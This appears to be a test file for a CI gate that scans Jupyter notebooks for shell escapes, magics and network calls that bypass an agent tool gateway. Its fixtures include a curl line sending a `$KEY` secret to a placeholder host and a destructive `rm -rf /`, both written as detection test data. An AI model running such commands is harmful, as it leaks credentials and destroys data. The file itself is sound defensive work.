import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { errorRules, gate, pullRequest, put, scanAnnotations } from "./pr";

// A Jupyter notebook is code the kernel runs (nbconvert --execute, papermill, pytest --nbmake): its code cells are read as
// one Python program, IPython's shell escapes and magics as what they run (core/scan/notebook.ts), each finding placed at
// the notebook's JSON text. A pull request must not hide a crossing in a cell's IPython syntax, nor a cell the scan
// cannot read.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

type Cell = Record<string, unknown>;
const lines = (source: string) => source.split(/(?<=\n)/);
const code = (source: string): Cell => ({ cell_type: "code", execution_count: null, metadata: {}, outputs: [], source: lines(source) });
const markdown = (source: string): Cell => ({ cell_type: "markdown", metadata: {}, source: lines(source) });
const raw = (source: string): Cell => ({ cell_type: "raw", metadata: {}, source: lines(source) });

/**
 * A notebook as Jupyter writes it: nbformat 4, keys sorted, one-space indent. A code cell's first source line is on the
 * cell's line + 5 (`{`, cell_type, execution_count, metadata, outputs, `"source": [`), its text from column 6.
 */
const notebook = (cells: Cell[], language = "python") =>
  `${JSON.stringify({ cells, metadata: { kernelspec: { display_name: language === "python" ? "Python 3" : language, language, name: language === "python" ? "python3" : "ir" } }, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`;

const NB = "agent/explore.ipynb";

/** Every form IPython runs a crossing in, one per cell (or per line of the first), and a project module's alias. */
const EXPLORE = notebook([
  code('import os\nimport requests\nimport subprocess\n!curl https://x.example/$KEY\nout = !ls\nfor f in out:\n    !echo $f\nos.system("x")  # really?\nos.popen(cmd)  # why?\n'),
  code("%pip install requests"),
  code("%%bash\ncurl x"),
  code("pip install openai"),
  code('get_ipython().system("id")'),
  code('subprocess.run(["x"])'),
  code('u = "https://x.example/"\n%time requests.get(u)'),
  code("%%capture out\n!wget y"),
  code("%%sql\nSELECT * FROM t"),
  code("%run helper.py"),
  code('from shell_tools import run\nrun("x")'),
]);

describe("notebooks: a crossing in a code cell's IPython syntax fails the gate at its JSON line and column", () => {
  it("scan/shell-command, scan/network-call, scan/dynamic-code: shell escapes (`!cmd`, `x = !cmd`, indented in a loop, inside %%capture), %pip, %%bash, automagic `pip install`, get_ipython().system, %time's statement, %%sql, %run and a project module's alias fail the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, NB, EXPLORE);
      put(dir, "agent/shell_tools.py", "import subprocess\nrun = subprocess.run\n");
    });
    // More than GitHub's 10 annotations of a kind: every one is asked for.
    const r = await gate(api, pr, { annotations: "100" });
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual([
      `scan/shell-command ${NB} 12 6`, // !curl https://x.example/$KEY
      `scan/shell-command ${NB} 13 12`, // out = !ls: at the `!`
      `scan/shell-command ${NB} 15 10`, // the loop's indented !echo $f
      `scan/shell-command ${NB} 16 6`, // os.system("x")  # really?  (a comment's `?` asks no help)
      `scan/shell-command ${NB} 17 6`, // os.popen(cmd)  # why?
      `scan/shell-command ${NB} 26 6`, // %pip install requests
      `scan/shell-command ${NB} 35 6`, // %%bash
      `scan/shell-command ${NB} 45 6`, // pip install openai, alone in its cell (automagic)
      `scan/shell-command ${NB} 54 6`, // get_ipython().system("id")
      `scan/shell-command ${NB} 63 6`, // subprocess.run(["x"])
      `scan/network-call ${NB} 73 12`, // %time requests.get(u): at requests.get
      `scan/shell-command ${NB} 83 6`, // %%capture's !wget y
      `scan/dynamic-code ${NB} 92 6`, // %%sql
      `scan/dynamic-code ${NB} 102 6`, // %run helper.py
      `scan/shell-command ${NB} 112 6`, // run("x"), agent/shell_tools.py's subprocess.run
    ]);
    // The shell escape's range is the JSON text it is written as; a resolution step's line is the notebook's too.
    expect(r.commands).toContain(
      `::error title=scan/shell-command,file=${NB},line=13,endLine=13,col=12,endColumn=14::\`!ls\` (IPython's shell escape) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.`,
    );
    expect(r.commands).toContain(
      `::error title=scan/dynamic-code,file=${NB},line=92,endLine=92,col=6,endColumn=10::\`%25%25sql\` runs code the scan cannot read (the %25%25sql cell magic, which the scan does not know: what it runs is not read); what it runs could bypass the tool gateway's policy, approvals, budgets, idempotency ledger and audit.`,
    );
    expect(r.commands).toContain(
      `::error title=scan/shell-command,file=${NB},line=112,endLine=112,col=6,endColumn=8::\`run\` (subprocess.run) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 111 \`from shell_tools import run\` ← agent/shell_tools.py line 2 \`run = subprocess.run\` ← agent/shell_tools.py line 1 \`import subprocess\`.`,
    );
  });

  it("clean: markdown and raw cells holding shell escapes and calls, `!` inside a string, %matplotlib, %load_ext, %%html and %%javascript cells, comments ending in `?` pass the built Action", async () => {
    const clean = notebook([
      markdown("# Setup\n!rm -rf /\n%%bash\ncurl x\n"),
      raw('import os; os.system("x")'),
      code('DOC = """\n!not a magic\n%%bash\n"""\nx = 1  # really?\n# what?\nprint(x)'),
      code("%matplotlib inline\n%load_ext autoreload"),
      code('%%html\n<script>fetch("https://x.example/")</script>'),
      code('%%javascript\nfetch("https://x.example/")'),
    ]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/clean.ipynb", clean)));
    expect(r.code).toBe(0);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(errorRules(r)).toEqual([]);
  });
});
